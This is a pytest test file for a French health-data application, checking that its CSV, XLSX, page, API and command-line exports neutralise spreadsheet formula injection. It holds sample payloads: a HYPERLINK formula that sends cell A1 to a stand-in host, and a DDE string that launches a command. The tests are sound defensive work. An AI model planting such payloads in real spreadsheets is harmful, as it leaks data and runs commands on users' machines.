"""Every export (pages, command line, API) writes cells a spreadsheet cannot run as formulas, through
the one writer :mod:`equisante.exports`; real negative numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from equisante import exports

EVIL = '=HYPERLINK("http://exemple.invalid/?"&A1;"cliquer")'
OTHERS = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def assert_inert_csv(data: bytes) -> list[list[str]]:
    """Rows of a CSV export: the French one (``;``) for people, the comma one of the API."""
    text = data.decode("utf-8-sig")
    header = text.split("\n", 1)[0]
    rows = list(csv.reader(io.StringIO(text), delimiter=";" if header.count(";") > header.count(",") else ","))
    for row in rows:
        for cell in row:
            assert not exports.is_formula_like(cell), cell
    return rows


def assert_inert_xlsx(data: bytes) -> list[tuple]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
            values.append(tuple(c.value for c in row))
    return values


# --- the writer ----------------------------------------------------------------------------------------

@pytest.mark.core
def test_csv_prefixes_formula_text_and_keeps_numbers():
    table = pd.DataFrame({"titre": [EVIL, *OTHERS, "-3.5", "texte"], "valeur": [-1.5, -2, 0, 3, 4, 5, -7, 8]})
    rows = assert_inert_csv(exports.to_csv_bytes(table))
    assert rows[1][0] == "'" + EVIL and rows[1][1] == "-1.5"
    assert rows[3][0] == "'-2+3" and rows[7][0] == "-3.5"  # a number written as text stays a number
    assert [r[1] for r in rows[1:]] == ["-1.5", "-2.0", "0.0", "3.0", "4.0", "5.0", "-7.0", "8.0"]


@pytest.mark.core
def test_xlsx_writes_formula_text_as_text_cells_unchanged():
    table = pd.DataFrame({"titre": [EVIL, *OTHERS], "valeur": [-1.5, -2, 0, 3, 4, 5]})
    values = assert_inert_xlsx(exports.to_xlsx_bytes({"=feuille": table}, notes={"=note": "=1+1"}))
    assert values[1] == (EVIL, -1.5) and values[2][0] == OTHERS[0]
    assert ("=note", "=1+1") in values


@pytest.mark.core
def test_column_names_are_neutralised_too():
    rows = assert_inert_csv(exports.to_csv_bytes(pd.DataFrame({"=1+1": ["a"]})))
    assert rows[0] == ["'=1+1"]


# --- pages, command line, API --------------------------------------------------------------------------

@pytest.fixture
def poisoned(db, settings):
    """The sample registry with formula text in a territory, an indicator label and an action sheet."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    from contracts.sample import build_registry

    from equisante.contracts.models import ActionSheet
    from equisante.indicators.models import Indicator
    from equisante.territories.models import Territory

    data = build_registry()
    Territory.objects.filter(code="01001").update(name=EVIL)
    Indicator.objects.filter(code="mortalite").update(label=OTHERS[0])
    ActionSheet.objects.filter(pk=ActionSheet.objects.order_by("pk").first().pk).update(title=EVIL)
    return data


def _admin_client(client):
    from django.contrib.auth import get_user_model

    client.force_login(get_user_model().objects.create_superuser("exports", password="une-phrase-2026-longue"))
    return client


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_contract_sheets_export_page(client, poisoned, fmt):
    response = _admin_client(client).get("/contrats/export/", {"format": fmt})
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        assert any(cell == "'" + EVIL for row in assert_inert_csv(data) for cell in row)
    else:
        assert any(EVIL in v for row in assert_inert_xlsx(data) for v in row if isinstance(v, str))


@pytest.mark.parametrize("url", ["/territoires/departement/01/?format={fmt}", "/territoires/?format={fmt}"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_territory_page_exports(client, poisoned, url, fmt):
    response = _admin_client(client).get(url.format(fmt=fmt))
    if response.status_code == 200 and response.get("Content-Disposition"):
        (assert_inert_csv if fmt == "csv" else assert_inert_xlsx)(response.content)


def test_api_csv_representation(client, poisoned):
    response = _admin_client(client).get("/api/territoires", {"format": "csv", "limit": 100})
    if response.status_code != 200:
        pytest.skip(f"API absente ou protégée ici ({response.status_code})")
    rows = assert_inert_csv(response.content)
    assert any(cell == "'" + EVIL for row in rows for cell in row)


@pytest.mark.parametrize("what", ["territories", "indicators", "values", "actions"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_command_line_exports(poisoned, tmp_path, what, fmt):
    from click.testing import CliRunner

    from equisante.cli import main

    target = tmp_path / f"sortie.{fmt}"
    result = CliRunner().invoke(main, ["export", what, "--format", fmt, "-o", str(target)])
    assert result.exit_code == 0, result.output
    data = target.read_bytes()
    (assert_inert_csv if fmt == "csv" else assert_inert_xlsx)(data)
